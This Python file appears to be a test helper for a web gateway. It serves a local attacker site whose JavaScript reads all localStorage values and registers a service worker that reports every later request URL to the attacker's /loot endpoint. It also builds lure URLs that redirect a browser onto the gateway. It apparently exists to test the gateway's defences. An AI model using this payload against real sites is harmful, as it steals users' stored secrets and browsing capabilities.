"""A site of a thief, whose pages try to take what a browser has of a gateway."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, unquote, urlsplit

from truckee.codec.caps import LiteralCap

# Takes what this browser remembers, then sits down beside every file that is opened later.
SCRIPT = """
const home = "%(thief)s/loot?";
const loot = (text) => fetch(home + encodeURIComponent(text), {mode: "no-cors"});
(async () => {
  for (const key of Object.keys(localStorage)) loot("storage " + localStorage.getItem(key));
  const worker = `
    const tell = (url) => fetch("%(thief)s/loot?" + encodeURIComponent("seen " + url),
      {mode: "no-cors"});
    oninstall = () => skipWaiting();
    onactivate = (event) => event.waitUntil(clients.claim());
    onfetch = (event) => tell(event.request.url);`;
  const cap = await (await fetch("/uri", {method: "PUT", body: worker})).text();
  loot("uploaded " + cap);
  for (const top of ["/uri/", "/file/"]) {
    await navigator.serviceWorker.register(top + cap + "?filename=w.js", {scope: top});
    loot("registered " + top);
  }
  loot("done");
})().catch((error) => loot("failed " + error));
"""


class _Server(ThreadingHTTPServer):
    loot: list[str]


class _Page(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        address = urlsplit(self.path)
        if address.path == "/loot":
            self.server.loot.append(unquote(address.query))
        here = f"http://localhost:{self.server.server_port}"
        text, kind = {
            "/uri/w.js": ("onfetch = () => {}", "text/javascript"),
            "/": (SCRIPT % {"thief": here}, "text/javascript"),
            "/go": (f"<script>location={unquote(address.query)!r}</script>", "text/html"),
        }.get(address.path, (unquote(address.query), "text/html"))
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Thief:
    """The site; a context manager that closes it."""

    def __init__(self) -> None:
        self._server = _Server(("127.0.0.1", 0), _Page)
        self._server.loot = []
        self.loot = self._server.loot  # what its pages sent home
        self.port = self._server.server_port
        self.url = f"http://localhost:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))

    def __enter__(self) -> Thief:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    @property
    def page(self) -> str:
        """A whole page that loads the script, short enough to be inside a cap."""
        return f"<script src={self.url.removeprefix('http:')}></script>"

    def trap(self, gateway: str) -> str:
        """Return the address of a page of ours that sends a browser to *gateway*."""
        cap = LiteralCap(self.page.encode())
        target = f"{gateway}uri/{quote(str(cap))}?filename=a.html"
        return f"{self.url}/go?{quote(target)}"

    def shows(self, html: str) -> str:
        """Return the address of a page of ours that is *html*."""
        return f"{self.url}/page?{quote(html)}"
